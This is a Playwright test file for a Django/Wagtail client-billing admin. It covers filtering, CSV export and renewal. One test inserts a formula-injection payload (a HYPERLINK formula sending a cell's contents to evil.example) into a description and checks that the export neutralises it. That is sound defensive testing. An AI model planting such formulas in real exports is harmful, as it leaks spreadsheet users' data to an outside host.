"""The agency admin's overview in a real browser: filter, export CSV, renew."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone
from playwright.sync_api import expect

from tests.factories import PASSWORD, connect_ready_account, make_site, make_user, request_details
from wagtail_client_billing import billing
from wagtail_client_billing.models import BillingRequest

pytestmark = [
    pytest.mark.browser,
    pytest.mark.django_db(transaction=True),
    pytest.mark.usefixtures("wagtail_root"),
]


def send(site, email, amount=4990):
    return billing.create_request(
        site=site,
        details=request_details(email=email, amount=amount),
    )


def test_filter_export_and_renew(live_server, page, billing_stripe_settings):
    acme = make_site("acme.test", "Acme Plumbing")
    bakery = make_site("bakery.test", "Rue Haute Bakery")
    connect_ready_account(billing_stripe_settings)
    expired = send(acme, "acme-expired@example.com", amount=12000)
    billing.expire_overdue(now=timezone.now() + timedelta(days=2))
    send(acme, "acme-new@example.com")
    send(bakery, "bakery-pending@example.com")
    make_user("agency", agency=True)

    page.goto(f"{live_server.url}/admin/login/")
    page.fill("input[name=username]", "agency")
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit]")
    page.get_by_role("button", name="Reports").click()
    page.get_by_role("link", name="Client billing overview").click()
    expect(page.get_by_role("heading", name="Totals per currency")).to_be_visible()

    # Filter by a site and a status (the filters submit as query parameters).
    page.goto(f"{page.url.split('?')[0]}?site={acme.pk}&status=expired")
    table = page.locator("table.listing")
    expect(table).to_contain_text("acme-expired@example.com")
    expect(table).not_to_contain_text("acme-new@example.com")
    expect(table).not_to_contain_text("bakery-pending@example.com")

    # Export what is listed as CSV.
    page.get_by_role("navigation", name="Actions").get_by_role("button", name="Actions").click()
    with page.expect_download() as download_info:
        page.get_by_role("link", name="Download CSV").click()
    content = open(download_info.value.path(), encoding="utf-8-sig").read()
    rows = list(csv.DictReader(io.StringIO(content)))
    assert [row["Email"] for row in rows] == ["acme-expired@example.com"]
    assert rows[0]["Amount"] == "120.00" and rows[0]["Currency"] == "EUR"

    # Renew the expired request: the confirmation shows what will be sent.
    table.get_by_role("link", name="acme-expired@example.com").click()
    page.get_by_role("link", name="Renew").click()
    expect(page.locator("main")).to_contain_text("€120.00")
    page.get_by_role("button", name="Send billing request").click()
    expect(
        page.get_by_text("A new billing request was sent to acme-expired@example.com")
    ).to_be_visible()
    renewed = BillingRequest.objects.filter(email="acme-expired@example.com").exclude(pk=expired.pk)
    assert renewed.get().status == BillingRequest.Status.PENDING


def test_csv_export_of_a_formula_looking_description_opens_as_text(
    live_server, page, billing_stripe_settings
):
    # A site editor (or a client's address) can put a formula in a description; the
    # agency's accountant opens the export in a spreadsheet: it must stay text.
    acme = make_site("acme.test", "Acme Plumbing")
    connect_ready_account(billing_stripe_settings)
    request = send(acme, "client@example.com")
    BillingRequest.objects.filter(pk=request.pk).update(
        description='=HYPERLINK("http://evil.example/?"&A1,"Pay here")'
    )
    make_user("agency", agency=True)

    page.goto(f"{live_server.url}/admin/login/")
    page.fill("input[name=username]", "agency")
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit]")
    page.get_by_role("button", name="Reports").click()
    page.get_by_role("link", name="Client billing overview").click()
    page.get_by_role("navigation", name="Actions").get_by_role("button", name="Actions").click()
    with page.expect_download() as download_info:
        page.get_by_role("link", name="Download CSV").click()
    content = open(download_info.value.path(), encoding="utf-8-sig").read()
    (row,) = csv.DictReader(io.StringIO(content))
    assert row["Description"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Pay here")'
    assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())
